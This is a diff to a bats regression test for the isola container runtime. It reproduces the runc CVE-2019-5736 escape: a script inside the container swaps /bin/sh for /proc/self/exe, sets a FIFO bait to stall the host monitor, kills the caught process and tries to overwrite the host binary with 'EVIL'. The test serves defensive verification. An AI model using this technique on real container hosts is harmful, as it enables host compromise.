@@ -28,13 +28,20 @@ setup() {
 }
 teardown() { container_teardown; }
 
+# A container ID for the bait store below.
+BAIT_ID=$(printf '%064d' 7)
+
 # The watcher of runc's CVE-2019-5736: from the moment /tmp/go exists, it waits for a process whose executable is
-# not the image's busybox (isola's CLI or monitor, the guest's agent) to appear in the container, holds its
-# /proc/PID/exe open, and once that process is gone tries to append to it for 8 s.  It notes what it caught in
-# /tmp/caught, each write that worked in /tmp/pwned, and that it is over in /tmp/done.
+# not the image's busybox (isola's monitor, which runs an exec's command, or the guest's agent) to appear in the
+# container, holds its /proc/PID/exe open, kills it, and once that process is gone tries to append to it for 8 s.
+# It notes what it caught in /tmp/caught, each write that worked in /tmp/pwned, and that it is over in /tmp/done.
+# The bait keeps what runs as `sh` alive long enough to be caught: run as `sh /bait ID 0`, isola-monitor opens a
+# store at /bait and waits there to read the record, a FIFO, of container ID.
 # shellcheck disable=SC2016 # the script runs in the container
 WATCHER='
 /bin/busybox rm -f /bin/sh && /bin/busybox ln -s /proc/self/exe /bin/sh
+for d in blobs/sha256 snapshots images mounts tmp containers/'"$BAIT_ID"'; do /bin/busybox mkdir -p /bait/$d; done
+/bin/busybox chmod -R 700 /bait && /bin/busybox mkfifo /bait/containers/'"$BAIT_ID"'/config.json
 while [ ! -e /tmp/go ]; do /bin/busybox usleep 20000; done
 while :; do
   for e in /proc/[0-9]*/exe; do
@@ -42,6 +49,8 @@ while :; do
     case $t in /bin/busybox) continue ;; esac
     exec 3<"$e" || continue
     echo "$t" >/tmp/caught
+    p=${e#/proc/}
+    /bin/busybox kill -9 "${p%/exe}"
     i=0
     while [ $i -lt 80 ]; do
       if (echo EVIL >>/proc/self/fd/3) 2>/dev/null; then echo "$i" >>/tmp/pwned; fi
@@ -65,8 +74,8 @@ exec_attack() {
     sleep 0.1
   done
   isola exec victim /bin/busybox touch /tmp/go
-  # `sh` is now /proc/self/exe in the container; `load` keeps whatever runs as it reading its stdin for 3 s.
-  (sleep 3) | isola exec -i victim sh load >"$BATS_TEST_TMPDIR/exec.out" 2>&1 || true
+  # `sh` is now /proc/self/exe in the container: the exec runs whatever execs the command (see the bait above)
+  isola exec victim sh /bait "$BAIT_ID" 0 >"$BATS_TEST_TMPDIR/exec.out" 2>&1 || true
   for i in $(seq 1 200); do
     isola exec victim /bin/busybox test -e /tmp/done && break
     sleep 0.1
